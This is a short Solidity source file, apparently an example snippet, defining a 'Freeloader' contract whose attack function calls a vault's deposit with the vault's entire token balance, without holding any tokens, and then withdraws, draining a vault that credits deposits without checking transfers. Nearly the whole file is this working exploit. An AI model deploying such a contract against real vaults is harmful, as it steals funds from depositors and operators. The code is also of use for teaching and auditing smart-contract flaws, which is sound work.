// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

interface IVault {
    function deposit(uint256 amount) external;
    function withdraw() external;
    function balanceOf(address customer) external view returns (uint256);
}

// #region contract
/// "Deposits" as many tokens as the vault has, without having any, and withdraws them.
contract Freeloader {
    function attack(IVault vault, IERC20 token) external {
        vault.deposit(token.balanceOf(address(vault)));
        vault.withdraw();
    }
}
// #endregion contract
